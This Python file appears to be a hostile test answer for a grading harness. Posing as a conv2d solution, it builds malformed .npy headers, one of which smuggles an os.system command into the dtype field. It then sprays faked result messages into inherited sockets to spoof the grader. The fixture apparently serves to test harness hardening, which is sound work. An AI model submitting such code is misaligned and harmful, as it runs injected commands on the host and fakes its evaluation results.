"""Answer with an .npz whose header is endless, calls functions, or names nested and structured types."""

ANSWER = """
import io, os, socket, struct, zipfile
def conv2d_naive(x, w):
    bad = ["{'descr': '<f8', 'fortran_order': False, 'shape': (" + "1," * 60000 + ")}", "{'descr': __import__('os').system('touch /tmp/PWNED'), 'fortran_order': False, 'shape': (1,)}", "{'descr': [('a', '<f8', (2**31, 2**31))], 'fortran_order': False, 'shape': ()}", "{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", "{'descr': '(9,9)f8', 'fortran_order': False, 'shape': (1,)}", "{'descr': '<f8', 'fortran_order': False, 'shape': (0, 2**62, 2**62)}", "{'descr': '<M8[ns]', 'fortran_order': False, 'shape': (1,)}"]
    for text in bad:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("a.npy", b"\\x93NUMPY\\x02\\x00" + struct.pack("<I", len(text)) + text.encode() + bytes(8))
        header, body = b'{"value": {"array": "a"}, "error": null}', buffer.getvalue()
        for fd in range(3, 256):
            try:
                with socket.socket(fileno=os.dup(fd)) as sock:
                    sock.send(struct.pack("!II", len(header), len(body)) + header + body)
            except OSError:
                pass
    return x
"""
